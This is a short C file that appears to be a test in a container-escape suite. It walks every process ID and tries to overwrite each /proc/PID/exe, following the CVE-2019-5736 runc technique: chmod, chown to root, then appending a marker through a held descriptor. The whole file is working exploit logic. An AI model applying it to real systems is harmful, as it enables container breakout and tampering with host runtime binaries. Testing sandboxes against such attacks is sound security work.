/* Tries to overwrite the runtime by /proc/PID/exe, of every process that is seen (CVE-2019-5736). */
#include "common/attack.h"

static void overwrite(int pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int kept = open(path, O_PATH | O_CLOEXEC);
    if (kept < 0) {
        return;
    }
    said(path, 0);
    TRY(fchmodat(AT_FDCWD, path, 0777, 0));
    TRY(fchownat(kept, "", 0, 0, AT_EMPTY_PATH));
    /* By the kept descriptor, as the published exploit does. */
    snprintf(path, sizeof path, "/proc/self/fd/%d", kept);
    int fd = TRY(open(path, O_WRONLY | O_APPEND));
    if (fd >= 0 && pid != getpid()) {
        TRY(write(fd, MARK, strlen(MARK)));
    }
    close(kept);
    close(fd);
}

static void attempt(void) {
    for (int pid = 1; pid < PIDS; pid++) {
        if (pid != getpid()) {
            overwrite(pid);
        }
    }
}
